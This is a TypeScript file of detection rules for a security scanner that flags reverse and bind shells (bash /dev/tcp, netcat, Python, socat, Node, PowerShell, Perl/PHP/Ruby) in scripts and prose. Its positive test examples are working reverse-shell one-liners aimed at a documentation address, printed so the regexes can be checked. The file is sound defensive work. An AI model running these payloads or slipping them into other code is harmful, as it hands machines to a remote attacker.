import type { Rule } from "../types.js";
import { SCRIPTS_PROSE_CONFIG, hitsOf } from "./common.js";

/** Group 1 marks the `nc … -e sh` form, whose target may come before or after the shell. */
const NETCAT_SHELL = /\b((?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;]{0,100}?\s-(?:[a-z]*[ec])\s+["']?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh\b)|\bmkfifo\b[^\n]{0,120}?\b(?:nc|ncat|netcat)\b|\b(?:ba|z)?sh\s+-i\b[^\n]{0,80}?\|\s*(?:nc|ncat|netcat)\b/gi;
/** The rest of that command: up to a separator, a closing code span or quote. */
const NETCAT_REST = /^[^\n|;&`]{0,100}/;

export const reverseShellRules: Rule[] = [
  {
    id: "SR-SHELL-001",
    title: "Bash /dev/tcp reverse shell",
    category: "reverse-shell",
    severity: "critical",
    message: "Opens a shell over /dev/tcp or /dev/udp: a reverse shell hands the machine to a remote host.",
    fix: "Remove it. There is no legitimate use in a skill.",
    fileKinds: SCRIPTS_PROSE_CONFIG,
    context: "payload",
    keywords: ["/dev/tcp/", "/dev/udp/"],
    // Host and port may be variables (`/dev/tcp/$host/$port`) when a shell's input and output are wired
    // to it (`sh -i >& …`, `… 0>&1`); a bare `exec 3<>/dev/tcp/$h/$p` is a port probe.
    // The host may be an IPv6 address (`::ffff:203.0.113.7`, an IPv4 address mapped into IPv6).
    pattern: /\/dev\/(?:tcp|udp)\/[\w.:$-]+\/\d+|\b(?:ba|z|da|k)?sh\s+-i\s*[<>]&?\s*\/dev\/(?:tcp|udp)\/[\w.:${}-]+\/\$\{?\w+\}?|\/dev\/(?:tcp|udp)\/[\w.:${}-]+\/\$\{?\w+\}?\s+0>&1/g,
    examples: {
      positive: ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "bash -i >& /dev/tcp/${H}/$P 0>&1", "bash -i >& /dev/tcp/::ffff:203.0.113.7/4444 0>&1"],
      negative: ["ls /dev/ | grep tty"],
    },
  },
  {
    id: "SR-SHELL-002",
    title: "Netcat shell",
    category: "reverse-shell",
    severity: "critical",
    message: "Netcat with -e/-c or a FIFO piped through a shell: a reverse or bind shell.",
    fix: "Remove it.",
    fileKinds: SCRIPTS_PROSE_CONFIG,
    context: "payload",
    keywords: ["nc ", "nc.", "netcat", "ncat", "mkfifo"],
    // A netcat shell needs somewhere to connect or a port to listen on: `nc -e /bin/sh` named in a
    // list of what to look for, with nothing after it, opens nothing.
    match: (segment) => hitsOf(NETCAT_SHELL, segment.text, (m) => m[1] === undefined || /\s["']?[\w$.{}:-]*\w/.test(segment.text.slice(m.index, m.index + m[0].length).replace(/\s-[a-z]*[ec]\s+["']?\S+/i, "") + (NETCAT_REST.exec(segment.text.slice(m.index + m[0].length))?.[0] ?? ""))),
    examples: {
      positive: ["nc -e /bin/sh 203.0.113.7 4444", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f", "nc -lvp 4444 -e /bin/bash", "ncat $HOST $PORT -e /bin/sh"],
      negative: ["nc -zv example.invalid 443", "- Reverse shells: `/dev/tcp/HOST/PORT`, `nc -e /bin/sh`, `pty.spawn`."],
    },
  },
  {
    id: "SR-SHELL-003",
    title: "Python socket shell",
    category: "reverse-shell",
    severity: "critical",
    message: "Python duplicates a socket onto stdin/stdout, spawns a pty shell, or runs what it receives on a socket as shell commands: a reverse shell.",
    fix: "Remove it.",
    fileKinds: ["python", ...SCRIPTS_PROSE_CONFIG],
    context: "payload",
    keywords: ["dup2", "pty.spawn", "recv"],
    reach: 600,
    // The third form: connect out, then a loop that hands each received line to the shell.
    pattern: /\bos\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\.connect\s*\(\s*\(\s*[^()\n]{1,80},\s*\d+\s*\)\s*\)[^]{0,300}?\.recv\s*\([^]{0,200}?\b(?:subprocess\.(?:run|call|check_output|getoutput|Popen)|os\.(?:system|popen))\s*\(/g,
    examples: {
      positive: ["s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", "=== scripts/p.py\ns.connect((\"203.0.113.7\", 8443))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True)\n    s.send(out.stdout)"],
      negative: ["os.dup2(log.fileno(), sys.stderr.fileno())", "=== scripts/probe.py\ns.connect((host, 80))\nbanner = s.recv(1024)\nprint(banner)"],
    },
  },
  {
    id: "SR-SHELL-004",
    title: "socat shell",
    category: "reverse-shell",
    severity: "critical",
    message: "socat wires a shell to a network socket (reverse or bind shell).",
    fix: "Remove it.",
    fileKinds: SCRIPTS_PROSE_CONFIG,
    context: "payload",
    keywords: ["socat"],
    pattern: /\bsocat\b[^\n]{0,200}?\bexec:["']?(?:\/bin\/)?(?:ba|z)?sh\b|\bsocat\b[^\n]{0,100}?\btcp[46]?(?:-listen)?:[^\n]{0,80}?\bexec:/gi,
    examples: {
      positive: ["socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr"],
      negative: ["socat TCP-LISTEN:8080,fork TCP:localhost:3000"],
    },
  },
  {
    id: "SR-SHELL-005",
    title: "Node.js socket shell",
    category: "reverse-shell",
    severity: "critical",
    message: "Node pipes a shell process through a network socket: a reverse shell.",
    fix: "Remove it.",
    fileKinds: ["javascript", ...SCRIPTS_PROSE_CONFIG],
    context: "payload",
    keywords: ["net.connect", "net.socket", "net.createconnection"],
    reach: 900,
    pattern: /\b(?:net\.connect|new\s+net\.Socket|net\.createConnection)\b[^]{0,400}?\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["'][^]{0,400}?\b(?:net\.connect|new\s+net\.Socket|net\.createConnection)\b/g,
    examples: {
      positive: ["const c = new net.Socket(); c.connect(4444, '203.0.113.7', () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });"],
      negative: ["const c = net.createConnection({ port: 8080 }); c.write('ping');"],
    },
  },
  {
    id: "SR-SHELL-006",
    title: "PowerShell TCP shell",
    category: "reverse-shell",
    severity: "critical",
    message: "PowerShell reads commands from a TCP stream and invokes them: a reverse shell.",
    fix: "Remove it.",
    fileKinds: ["powershell", ...SCRIPTS_PROSE_CONFIG],
    context: "payload",
    keywords: ["tcpclient", "tcplistener"],
    reach: 1300,
    pattern: /\bNet\.Sockets\.TCP(?:Client|Listener)\b[^]{0,600}?\b(?:GetStream|AcceptTcpClient)\b[^]{0,600}?\b(?:iex|Invoke-Expression)\b/gi,
    examples: {
      positive: ["$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s = $c.GetStream();while(($i = $s.Read($b,0,$b.Length)) -ne 0){$d = (iex $data 2>&1 | Out-String)}"],
      negative: ["$c = New-Object System.Net.Sockets.TCPClient('example.invalid',443); $c.Close()"],
    },
  },
  {
    id: "SR-SHELL-007",
    title: "Perl, PHP or Ruby socket shell",
    category: "reverse-shell",
    severity: "critical",
    message: "A scripting one-liner connects a socket and execs a shell on it.",
    fix: "Remove it.",
    fileKinds: SCRIPTS_PROSE_CONFIG,
    context: "payload",
    keywords: ["socket", "fsockopen", "tcpsocket"],
    pattern: /\bperl\b[^\n]{0,40}?-e\b[^\n]{0,300}?\bsocket\s*\([^\n]{0,300}?exec\s*\(?["']?(?:\/bin\/)?(?:ba)?sh|\bfsockopen\s*\([^\n]{0,200}?\b(?:exec|shell_exec|system|proc_open|passthru)\s*\(|\bTCPSocket\.(?:open|new)\b[^\n]{0,200}?\b(?:exec|spawn|IO\.popen)\b/gi,
    examples: {
      positive: ["php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
      negative: ["php -r 'echo phpversion();'"],
    },
  },
];
